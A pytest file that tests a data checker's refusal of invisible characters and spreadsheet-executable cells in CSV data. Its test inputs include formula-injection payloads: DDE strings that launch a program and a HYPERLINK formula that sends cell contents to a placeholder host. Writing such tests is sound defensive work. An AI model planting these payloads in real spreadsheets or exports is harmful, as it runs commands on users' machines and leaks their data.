"""Laws of the characters that a cell may hold."""

from pathlib import Path
from unicodedata import category

import pytest

from hundredmodels.data import check
from hundredmodels.data.characters import unfit

UNSEEN = {
    "direction": "\u202egro.live", "isolate": "a\u2066b", "zero width": "GPT\u200b-4",
    "joiner": "GPT\u200d-4", "mark": "\ufeffGPT", "soft hyphen": "GP\u00adT", "escape": "\x1b[2J",
    "bell": "a\x07", "tab": "\t=1+1", "return": "a\rb", "delete": "a\x7f", "next line": "a\x85b",
    "separator": "a\u2028b", "tag": "a\U000e0041", "filler": "a\u3164", "private": "a\ue000",
}  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "-A1", "+A1", "\n=1+1", " =1+1",
    "\uff1d1+1", "\uff20A1", "\uff0bA1", "\uff0dA1",
    '=HYPERLINK("http://x.invalid/?"&A1)', "-1;=A1",
)  # fmt: skip
FINE = (
    "-5", "-1.5e-3", "+50%", "-20; -80", "−5", "–", "GPT-4", "a = b", "a@b", "two\nlines",
    "two\r\nlines", "文心一言", "ERNIE 4.0 Turbo", "é", "e\u0301", "<b>", "50 %",
)  # fmt: skip


@pytest.mark.parametrize("text", [*UNSEEN.values(), *FORMULAS])
def test_refused(small_package: Path, text: str) -> None:
    """Law: what nobody sees, or a spreadsheet would run, is refused with file, line and field."""
    file = small_package / "models.csv"
    cell = '"' + text.replace('"', '""') + '"'
    file.write_text(file.read_text("utf-8").replace("Beta", cell), "utf-8", newline="")
    report = check(small_package)
    told = [one for one in report.problems if (one.file, one.line) == ("data/models.csv", 3)]
    assert [one.field for one in told] == ["model"]
    assert told[0].mend
    assert not any(category(char) in {"Cc", "Cf"} for char in report.text().replace("\n", ""))


@pytest.mark.parametrize("text", FINE)
def test_accepted(text: str) -> None:
    """Law: signs, marks, other scripts and combining letters of ordinary text are no fault."""
    assert unfit(text) is None


def test_the_error_names_the_character() -> None:
    """Law: who can't see a character is told which it is and where it stands."""
    found = unfit("GPT\u200b-4")
    assert found is not None
    assert "U+200B, ZERO WIDTH SPACE, after 3 others" in found[0]
